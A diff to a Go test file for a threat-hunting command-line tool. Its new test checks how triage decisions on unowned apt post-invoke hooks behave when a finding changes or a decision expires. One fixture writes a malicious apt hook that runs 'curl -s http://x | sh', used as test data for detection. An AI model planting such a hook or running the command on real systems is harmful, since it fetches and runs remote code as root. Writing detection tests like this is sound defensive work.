@@ -2,6 +2,7 @@ package cli
 
 import (
 	"encoding/csv"
+	"encoding/json"
 	"io/fs"
 	"os"
 	"os/exec"
@@ -65,6 +66,10 @@ func touchedDiff(t *testing.T, dir string) int {
 	}
 	code, _, errs := runCLI(hunt...)
 	hunttest.WantClean(t, code, errs)
+	// times are stored in seconds: from the next one on, the
+	// status-change time that setting the access time sets differs from
+	// the one the first hunt saw
+	time.Sleep(time.Until(time.Now().Truncate(time.Second).Add(time.Second)))
 	atime := time.Date(2001, 2, 3, 4, 5, 6, 0, time.UTC)
 	touched := 0
 	err := filepath.WalkDir(root, func(p string, d fs.DirEntry, err error) error {
@@ -92,4 +97,101 @@ func touchedDiff(t *testing.T, dir string) int {
 		t.Fatalf("diff csv %q: %v", out, err)
 	}
 	return len(r) - 1 // the header
+}
+
+// TestTriageSticks: a triaged finding disappears from hunt's findings and
+// from diff --fail-on-new, is listed marked with --all, comes back when
+// its command changes, and comes back when the decision expires.
+func TestTriageSticks(t *testing.T) {
+	root := t.TempDir()
+	hook := filepath.Join(root, "etc/apt/apt.conf.d/99local")
+	for _, err := range []error{
+		os.MkdirAll(filepath.Dir(hook), 0o755),
+		os.MkdirAll(filepath.Join(root, "var/lib/dpkg"), 0o755),
+		os.WriteFile(filepath.Join(root, "var/lib/dpkg/status"), nil, 0o644),
+		os.WriteFile(hook, []byte(`DPkg::Post-Invoke { "/usr/local/bin/cache-clean"; };`+"\n"), 0o644),
+	} {
+		if err != nil {
+			t.Fatal(err)
+		}
+	}
+	qdir := t.TempDir()
+	data, err := fs.ReadFile(queries.FS, "unowned-hooks.sql")
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(filepath.Join(qdir, "unowned-hooks.sql"), data, 0o644); err != nil {
+		t.Fatal(err)
+	}
+	db := filepath.Join(t.TempDir(), "p.db")
+	hunt := func(extra ...string) []map[string]string {
+		t.Helper()
+		code, out, errs := runCLI(append([]string{"hunt", "--db", db, "--root", root, "--queries", qdir, "--format", "json"}, extra...)...)
+		hunttest.WantClean(t, code, errs)
+		var rows []map[string]string
+		if err := json.Unmarshal([]byte(out), &rows); err != nil {
+			t.Fatalf("%v: %s", err, out)
+		}
+		return rows
+	}
+	failOnNew := func(run string) int {
+		t.Helper()
+		code, _, _ := runCLI("diff", "--db", db, "--run", run, "--query", "unowned-hooks", "--fail-on-new", "--format", "csv")
+		return code
+	}
+	if f := hunt(); len(f) != 1 || f[0]["change"] != "new" || !strings.Contains(f[0]["row"], "cache-clean") {
+		t.Fatalf("first hunt: %v", f)
+	}
+	if code := failOnNew("1"); code != 1 {
+		t.Fatalf("diff --fail-on-new before triage: exit %d", code)
+	}
+	for _, bad := range [][]string{
+		{"add", "unowned-hooks", "--match", "path=/etc/apt/apt.conf.d/99local"},                                    // no reason
+		{"add", "unowned-hooks", "--match", "path=/nowhere", "--reason", "r"},                                      // no such row
+		{"add", "unowned-hooks", "--match", "path=/etc/apt/apt.conf.d/99local", "--reason", "r", "--until", "-1h"}, // past
+	} {
+		args := append([]string{"triage", bad[0], "--db", db}, bad[2:]...)
+		if code, _, errs := runCLI(append(args, bad[1])...); code != 2 {
+			t.Errorf("triage %q: exit %d: %s", bad, code, errs)
+		}
+	}
+	code, out, errs := runCLI("triage", "add", "--db", db, "--match", "path=/etc/apt/apt.conf.d/99local",
+		"--reason", "our cache cleaner", "--who", "ann", "--until", "3s", "unowned-hooks")
+	if code != 0 || !strings.Contains(out, "triage 1: unowned-hooks") {
+		t.Fatalf("triage add: exit %d: %s%s", code, out, errs)
+	}
+	expires := time.Now().Add(3 * time.Second)
+	if f := hunt(); len(f) != 0 {
+		t.Fatalf("the triaged finding is still listed: %v", f)
+	}
+	if code := failOnNew("1"); code != 0 {
+		t.Fatalf("diff --fail-on-new counts the triaged row: exit %d", code)
+	}
+	if f := hunt("--all"); len(f) != 1 || !strings.Contains(f[0]["row"], "triaged=benign: our cache cleaner (ann, until ") {
+		t.Fatalf("--all: %v", f)
+	}
+	// the command changes: a new row, no decision covers it
+	if err := os.WriteFile(hook, []byte(`DPkg::Post-Invoke { "/usr/local/bin/cache-clean; curl -s http://x | sh"; };`+"\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	if f := hunt(); len(f) != 1 || f[0]["change"] != "new" || !strings.Contains(f[0]["row"], "curl") {
+		t.Fatalf("the changed command is not a new finding: %v", f)
+	}
+	if code := failOnNew("4"); code != 1 {
+		t.Fatalf("diff --fail-on-new after the command changed: exit %d", code)
+	}
+	// back as it was: covered again until the decision expires
+	if err := os.WriteFile(hook, []byte(`DPkg::Post-Invoke { "/usr/local/bin/cache-clean"; };`+"\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	if f := hunt(); len(f) != 0 {
+		t.Fatalf("the triaged row is listed again before the decision expired: %v", f)
+	}
+	time.Sleep(time.Until(expires))
+	if f := hunt(); len(f) != 1 || f[0]["change"] != "present" {
+		t.Fatalf("the decision expired, the finding is not back: %v", f)
+	}
+	if code := failOnNew("1"); code != 1 {
+		t.Fatalf("diff --fail-on-new after the decision expired: exit %d", code)
+	}
 }
